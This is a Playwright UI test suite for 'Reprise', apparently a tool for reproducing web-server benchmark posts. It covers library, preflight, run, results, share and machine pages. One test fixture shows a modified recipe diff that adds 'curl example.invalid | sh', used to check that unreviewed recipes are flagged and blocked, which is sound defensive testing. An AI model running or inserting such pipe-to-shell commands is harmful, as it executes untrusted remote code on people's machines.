// The built UI in Debian's Chromium, with the scripted backend: every page in
// its loading, empty, error, live and finished states, as a person sees them.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { serve } from './serve.mjs';

const dist = fileURLToPath(new URL('../../dist/', import.meta.url));
let server, browser, page;
const errors = [];

before(async () => {
  server = await serve(dist);
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  page = await browser.newPage();
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  page.setDefaultTimeout(5000);
});
after(async () => {
  await browser?.close();
  await server?.close();
});

// A fresh document per test: the scripted backend's state does not carry over.
const open = async (script, hash) => {
  await page.goto('about:blank');
  await page.goto(`${server.url}?script=${script}#/${hash}`);
};
const text = (sel) => page.locator(sel).first().innerText();

describe('Library', () => {
  it('shows a card per recipe with its post and runnable lanes', async () => {
    await open('default', 'library');
    const card = page.locator('[data-recipe="hello-ceiling"]');
    await card.waitFor();
    assert.match(await card.innerText(), /Campfire under Falcon/);
    assert.match(await card.innerText(), /Sam Ruby · October 2026/);
    assert.match(await card.locator('.lanes-here').innerText(), /1 of 3 lanes runnable here/);
    assert.match(await text('[data-recipe="campfire-runtimes"]'), /checksum modified/);
  });
  it('shows loading while the app has not answered', async () => {
    await open('slow', 'library');
    assert.match(await text('[role=status]'), /Loading the recipes/);
  });
  it('says what to do when there are no recipes', async () => {
    await open('empty', 'library');
    assert.match(await text('.notice'), /REPRISE_ROOT/);
  });
  it('shows the error where it happened, with what to do', async () => {
    await open('error', 'library');
    assert.match(await text('[role=alert]'), /cannot read \/nowhere\/recipes/);
    assert.match(await text('[role=alert]'), /What to do: Start Reprise from its checkout/);
  });
  it('is keyboard navigable: Tab reaches a card link and Enter opens the post', async () => {
    await open('default', 'library');
    await page.locator('[data-recipe]').first().waitFor();
    let focused = '';
    for (let i = 0; i < 12 && !focused.includes('Campfire under Falcon'); i++) {
      await page.keyboard.press('Tab');
      focused = await page.evaluate(() => document.activeElement?.textContent ?? '');
    }
    assert.match(focused, /Campfire under Falcon/);
    await page.keyboard.press('Enter');
    await page.locator('h1', { hasText: 'the hello-world ceilings' }).waitFor();
  });
});

describe('Post', () => {
  it('lists the figures with their sentences, the claims and the machine', async () => {
    await open('default', 'post/hello-ceiling');
    const puma = page.locator('[data-figure="puma-hello"]');
    await puma.waitFor();
    assert.match(await puma.innerText(), /≈ 54,000 req\/s/);
    assert.match(await puma.innerText(), /about 54,000 requests a second/);
    assert.match(await text('[data-claim="falcon-twice-puma"]'), /tolerance ±15%/);
    assert.match(await text('dl.pairs'), /AMD Ryzen 5 3600/);
  });
  it('shows a broken recipe as an error with the fix', async () => {
    await open('error', 'post/hello-ceiling');
    assert.match(await text('[role=alert]'), /unknown key `titel`/);
    assert.match(await text('[role=alert]'), /reprise check/);
  });
  it('shows loading first', async () => {
    await open('slow', 'post/hello-ceiling');
    assert.match(await text('[role=status]'), /Loading the post hello-ceiling/);
  });
});

describe('Preflight', () => {
  it('lists each item with the post’s value, this machine’s, the verdict and the fix', async () => {
    await open('default', 'preflight/hello-ceiling');
    // Toolchains and lanes first, the hardware folded under its heading.
    await page.locator('[data-item="toolchain falcon"]').waitFor();
    assert.match(await text('[data-hardware] > summary'), /This machine against the post’s: 2 items, 2 differ/);
    await page.click('[data-hardware] > summary');
    const boost = page.locator('[data-item="boost"]');
    await boost.waitFor();
    assert.match(await boost.innerText(), /off\s+on\s+differs/);
    assert.match(await boost.innerText(), /Fix: echo 0 > \/sys/);
    assert.match(await text('[data-item="toolchain falcon"]'), /blocks/);
    assert.match(await text('[data-preflight-summary]'), /for information only/);
    assert.match(await text('[data-preflight-summary]'), /1 of 2 lanes run here \(falcon is blocked/);
    assert.match(await text('[data-fixes] pre'), /echo 0 > \/sys\/devices\/system\/cpu\/cpufreq\/boost\ngem install falcon/);
    assert.ok(await page.locator('[data-action="go-run"]').isVisible(), 'the run button is on top');
    assert.match(await text('[data-lane="falcon"]'), /blocked/);
    assert.match(await text('[data-lane="puma"]'), /can run here/);
  });
  it('runs none of the recipe’s version commands until asked, and lists them first', async () => {
    await open('default', 'preflight/hello-ceiling');
    const versions = page.locator('[data-versions]');
    await versions.waitFor();
    assert.match(await versions.innerText(), /ruby --version[\s\S]*falcon --version/);
    await page.click('[data-action="ask-versions"]');
    await page.locator('[data-versions]').waitFor({ state: 'detached' });
    await page.locator('[data-item="toolchain falcon"]').waitFor();
  });
  it('sets up what is missing: shows the plan, installs with mise’s output live, then reads the toolchains again', async () => {
    await open('default', 'preflight/hello-ceiling');
    await page.click('[data-action="setup"]');
    const setup = page.locator('[data-setup]');
    await page.locator('[data-action="install"]').waitFor();
    assert.match(await setup.innerText(), /gem:falcon latest \(for falcon\)/);
    assert.match(await text('[data-setup-config]'), /\[tools\]\s+"gem:falcon" = "latest"/);
    assert.match(await setup.innerText(), /mise install \(in /);
    assert.match(await setup.innerText(), /Not through mise.*nginx/);
    await page.click('[data-action="install"]');
    await page.locator('[data-setup-end]').waitFor();
    assert.match(await text('[data-setup-log]'), /installing 1 tool[\s\S]*✓ gem:falcon@0.51.1/);
    assert.match(await text('[data-setup-end]'), /Installed/);
    await page.locator('[data-lane="falcon"]', { hasText: 'can run here' }).waitFor();
    assert.match(await text('[data-item="toolchain falcon"]'), /falcon 0.51.1\s+matches/);
    assert.match(await text('[data-preflight-summary]'), /Nothing blocks this run/);
  });
  it('shows loading while the probe runs', async () => {
    await open('slow', 'preflight/hello-ceiling');
    assert.match(await text('[role=status]'), /probing this machine/);
  });
  it('shows an error with what to do', async () => {
    await open('error', 'preflight/hello-ceiling');
    assert.match(await text('[role=alert]'), /reprise check/);
  });
});

describe('Run', () => {
  it('shows the plan with the post’s reasons before starting', async () => {
    await open('default', 'run/hello-ceiling');
    const measure = page.locator('[data-step="measure"]');
    await measure.waitFor();
    assert.match(await measure.innerText(), /not started/);
    assert.match(await measure.innerText(), /after a warm-up/);
    assert.match(await text('[data-step="clone"]'), /not started/);
  });
  it('lists everything starting the run executes: servers, their environment, version commands, files, requests', async () => {
    await open('default', 'run/hello-ceiling');
    const consent = page.locator('[data-consent]');
    await consent.waitFor();
    await page.click('[data-consent] summary');
    const shown = await consent.innerText();
    assert.match(shown, /2 steps, 2 servers, 3 version commands/);
    assert.match(await text('[data-consent-lane="puma"]'), /puma --bind tcp:\/\/127\.0\.0\.1:9292 .* with RACK_ENV=production/);
    assert.match(shown, /asks a version: falcon --version/);
    assert.match(shown, /writes files\/hello\/config\.ru \(1 line\)/);
    assert.match(shown, /requests GET \/ from its own lanes/);
  });
  it('runs live: status, progress and log per step, then the outcome', async () => {
    await open('default', 'run/hello-ceiling');
    await page.locator('[data-action="start"]').click();
    await page.locator('[data-step="clone"][data-status="running"]').waitFor();
    await page.locator('[data-run-outcome]').waitFor();
    assert.match(await text('[data-run-outcome]'), /1 finished, 0 kept from before, 1 skipped, 0 failed/);
    assert.equal(await page.locator('[data-results-link]').getAttribute('href'), '#/results/hello-ceiling-20261130-1');
    // The results are then the main action, before resuming.
    assert.equal(await page.locator('[data-action="see-results"]').getAttribute('href'), '#/results/hello-ceiling-20261130-1');
    assert.equal(await page.locator('.actions > *').first().getAttribute('data-action'), 'see-results');
    assert.equal(await page.locator('[data-step="clone"] progress').evaluate((p) => p.value), 1);
    // The finished step's log is folded away, still there to open.
    assert.match(await page.locator('[data-step="clone"] .log').textContent(), /Receiving objects: 100%/);
    assert.match(await text('[data-step="clone"] summary'), /Log \(10 lines\)/);
    assert.match(await text('[data-step="clone"]'), /2.0 s/);
    assert.match(await text('[data-step="measure"]'), /skipped/);
    assert.match(await text('[data-step="measure"] .reason'), /falcon is not installed/);
  });
  it('can be left and re-entered while running, and cancelled', async () => {
    await open('slowrun', 'run/hello-ceiling');
    await page.locator('[data-action="start"]').click();
    await page.locator('[data-step="clone"][data-status="running"]').waitFor();
    await page.locator('nav a', { hasText: 'Library' }).click();
    await page.locator('[data-recipe]').first().waitFor();
    await page.goBack();
    await page.locator('[data-step="clone"][data-status="running"]').waitFor();
    assert.equal(await page.locator('[data-action="start"]').isDisabled(), true);
    await page.locator('[data-action="cancel"]').click();
    await page.locator('[data-run-outcome]', { hasText: '(cancelled)' }).waitFor({ timeout: 5000 });
  });
  it('runs a modified recipe only once the reader accepts it, showing the diff from the reviewed version', async () => {
    await open('error', 'run/hello-ceiling');
    assert.match(await text('[data-unreviewed]'), /modified against checksums/);
    assert.match(await text('[data-reviewed-diff]'), /\+command = \["sh", "-c", "curl example.invalid \| sh"\]/);
    assert.equal(await page.locator('[data-action="start"]').isDisabled(), true);
    await page.locator('[data-option="allow-modified"]').check();
    assert.equal(await page.locator('[data-action="start"]').isDisabled(), false);
    await page.locator('[data-action="start"]').click();
    assert.match(await text('[role=alert]'), /reprise checksums update/);
  });
  it('streams a full-speed synthetic stream into the live view, then shows it finished', async () => {
    await open('default', 'run/hello-ceiling');
    await page.locator('[data-action="stream"]').click();
    const live = page.locator('[data-live-step="measure"]');
    await live.waitFor();
    assert.match(await live.locator('[data-gauge="rps"]').innerText(), /req\/s/);
    await page.locator('[data-live-step="measure"] .status', { hasText: 'finished' }).waitFor();
    assert.equal(await live.locator('progress').evaluate((p) => p.value), 1);
    assert.match(await live.locator('pre.log').innerText(), /run 40: 75,000 req\/s/);
    assert.match(await text('[data-stream-summary]'), /152,501 events in 41 batches/);
  });
});

describe('Results', () => {
  it('shows verdicts with intervals, a chart and the appendix', async () => {
    await open('default', 'results/hello-ceiling-1');
    const v = page.locator('[data-verdict="falcon-twice-puma"]');
    await v.waitFor();
    assert.match(await v.innerText(), /Reproduced/);
    assert.match(await v.innerText(), /1.99× \(1.98–2\)/);
    assert.match(await text('.notice'), /not the post’s/);
    assert.equal(await page.locator('canvas').count(), 1);
    assert.match(await text('[data-result="falcon-hello"]'), /106,000 req\/s\s+60,200 req\/s/);
    await page.locator('summary', { hasText: 'Environment appendix' }).click();
    assert.match(await text('.appendix'), /ruby 3.1.2p20/);
    assert.equal(await page.locator('[data-smoke-run]').count(), 0, 'a measured run is not called a smoke run');
  });
  it('shows each step of people, served or why not', async () => {
    await open('people', 'results/campfire-people-1');
    const served = page.locator('[data-people-step="rails/250"]');
    await served.waitFor();
    assert.equal(await served.getAttribute('class'), 'served');
    const missed = page.locator('[data-people-step="rails/1000"]');
    assert.equal(await missed.getAttribute('class'), 'not-served');
    assert.match(await missed.innerText(), /navigation p99 812.0 ms > 100 ms/);
    assert.match(await missed.innerText(), /lost_delivery 104/);
    assert.equal(await page.locator('table.people th').count(), 10);
    assert.match(await text('[data-smoke-run]'), /a smoke run, not a measurement/);
    assert.equal(await page.locator('[data-result]').count(), 0);
  });
  it('explains an empty history', async () => {
    await open('empty', 'results');
    assert.match(await text('.notice'), /No runs yet/);
  });
  it('shows a history error where it happened', async () => {
    await open('error', 'results');
    assert.match(await text('[role=alert]'), /file is not a database/);
  });
});

describe('Share', () => {
  it('previews the redacted report, signs in with a device code, posts and shows the link', async () => {
    await open('default', 'share/hello-ceiling-1');
    await page.locator('pre.preview').waitFor();
    assert.match(await text('.redacted'), /desk-seven/);
    assert.doesNotMatch(await text('pre.preview'), /desk-seven/);
    assert.equal(await page.locator('code.command').textContent(), 'reprise share hello-ceiling-1');
    await page.locator('[data-action="sign-in"]').click();
    assert.equal(await text('[data-user-code]'), 'WDJB-MJHT');
    assert.match(await text('.device-code'), /https:\/\/github.com\/login\/device/);
    await page.locator('[data-action="submit"]').waitFor();
    await page.locator('[data-action="submit"]').click();
    assert.equal(await page.locator('[data-posted]').inputValue(), 'https://github.com/rubys/reprise/discussions/7');
  });
  it('shows a failed post where it happened, with what to do', async () => {
    await open('shareerror', 'share/hello-ceiling-1');
    await page.locator('[data-action="submit"]').click();
    assert.match(await text('[role=alert]'), /Could not resolve to a Repository/);
    assert.match(await text('[role=alert]'), /What to do: Check the repository/);
  });
});

describe('Machine', () => {
  it('shows the probe’s fingerprint', async () => {
    await open('default', 'machine');
    assert.equal(await text('[data-fact="cpu.logical_threads"]'), '2');
    assert.equal(await text('[data-fact="clock.governor"]'), 'performance');
  });
  it('shows an error with what to do', async () => {
    await open('error', 'machine');
    assert.match(await text('[role=alert]'), /Restart the app/);
  });
});

describe('the page', () => {
  it('outside the app without a script says how to open the app', async () => {
    await page.goto(server.url);
    assert.match(await text('.notice'), /scripts\/app/);
  });
  it('logged no script errors in any test', () => {
    assert.deepEqual(errors, []);
  });
});
